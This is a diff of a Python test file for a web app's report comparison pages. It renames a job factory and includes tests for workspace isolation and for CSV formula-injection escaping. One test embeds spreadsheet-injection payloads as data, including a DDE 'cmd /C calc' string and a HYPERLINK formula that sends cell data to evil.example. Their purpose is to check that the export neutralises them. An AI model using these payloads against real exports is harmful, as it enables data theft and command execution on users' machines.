@@ -8,8 +8,7 @@ import re
 
 import pytest
 
-from tests.webapp.adapter_factories import (EVALUATION, bulk_finished_jobs, csrf_client, make_job,
-                                            make_version_for_job)
+from tests.webapp.factories import EVALUATION, bulk_finished_jobs, csrf_client, make_finished_job, make_version_for_job
 from webapp.accounts.models import Workspace
 from webapp.jobs.models import Job
 
@@ -33,9 +32,9 @@ def _csv(response) -> list[dict]:
 
 def test_selected_jobs_table_points_and_csv(make_user):
     maria = make_user("maria", workspace="Press line", role="manager")
-    a = make_job("Press line", name="baseline", method="cmaes", zero_shot=0.6, tuned=0.7, worker_seconds=1800)
-    b = make_job("Press line", name="sharp", zero_shot=0.6, tuned=0.9, worker_seconds=3600, evaluation=EVALUATION)
-    make_job("Press line", name="not selected")
+    a = make_finished_job("Press line", name="baseline", method="cmaes", zero_shot=0.6, tuned=0.7, worker_seconds=1800)
+    b = make_finished_job("Press line", name="sharp", zero_shot=0.6, tuned=0.9, worker_seconds=3600, evaluation=EVALUATION)
+    make_finished_job("Press line", name="not selected")
     client = csrf_client(maria)
     query = f"?job={a.pk}&job={b.pk}"
 
@@ -57,9 +56,9 @@ def test_selected_jobs_table_points_and_csv(make_user):
 def test_model_line_versions_are_compared_including_uploads(make_user, tmp_path):
     make_user("maria", workspace="Press line", role="manager")
     client = csrf_client(make_user("victor", workspace="Press line", role="viewer"))
-    v1 = make_version_for_job(make_job("Press line", model_line_name="scratches", tuned=0.8), tmp_path)
-    make_version_for_job(make_job("Press line", model_line_name="scratches", tuned=0.85), tmp_path)
-    make_job("Press line", model_line_name="other line")
+    v1 = make_version_for_job(make_finished_job("Press line", model_line_name="scratches", tuned=0.8), tmp_path)
+    make_version_for_job(make_finished_job("Press line", model_line_name="scratches", tuned=0.85), tmp_path)
+    make_finished_job("Press line", model_line_name="other line")
     page = client.get(f"/reports/compare/?line={v1.model_line_id}")
     text = page.content.decode()
     assert "Versions of scratches" in text and "v1 (job" in text and "v2 (job" in text
@@ -68,9 +67,9 @@ def test_model_line_versions_are_compared_including_uploads(make_user, tmp_path)
 
 
 def test_other_workspaces_jobs_never_appear_and_their_line_is_404(make_user, tmp_path):
-    theirs = make_job("Other site", name="their secret job")
+    theirs = make_finished_job("Other site", name="their secret job")
     line = make_version_for_job(theirs, tmp_path).model_line
-    make_job("Press line", name="our job")
+    make_finished_job("Press line", name="our job")
     client = csrf_client(make_user("victor", workspace="Press line", role="viewer"))
     for url in ("/reports/compare/", f"/reports/compare/?job={theirs.pk}", "/reports/compare.csv",
                 f"/reports/compare.csv?job={theirs.pk}"):
@@ -82,7 +81,7 @@ def test_other_workspaces_jobs_never_appear_and_their_line_is_404(make_user, tmp
 
 def test_failed_jobs_are_left_out_unless_selected(make_user):
     client = csrf_client(make_user("victor", workspace="Press line", role="viewer"))
-    failed = make_job("Press line", name="broke", status=Job.Status.FAILED, tuned=None, zero_shot=None)
+    failed = make_finished_job("Press line", name="broke", status=Job.Status.FAILED, tuned=None, zero_shot=None)
     assert "broke" not in client.get("/reports/compare/").content.decode()
     assert "broke" in client.get(f"/reports/compare/?job={failed.pk}").content.decode()
 
@@ -104,7 +103,7 @@ def test_csv_never_hands_a_spreadsheet_a_formula(make_user, start):
     """A name typed by a user must not run as a formula when a manager opens the export."""
     maria = make_user("maria", workspace=f"{start}cmd|' /C calc'!A0", role="manager")
     name = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
-    job = make_job(maria.memberships.get().workspace, name=name, model_line_name=f"{start}line")
+    job = make_finished_job(maria.memberships.get().workspace, name=name, model_line_name=f"{start}line")
     row = _csv(csrf_client(maria).get(f"/reports/compare.csv?job={job.pk}"))[0]
     assert row["name"] == "'" + name
     assert row["workspace"].startswith("'") and row["model line"] == f"'{start}line"
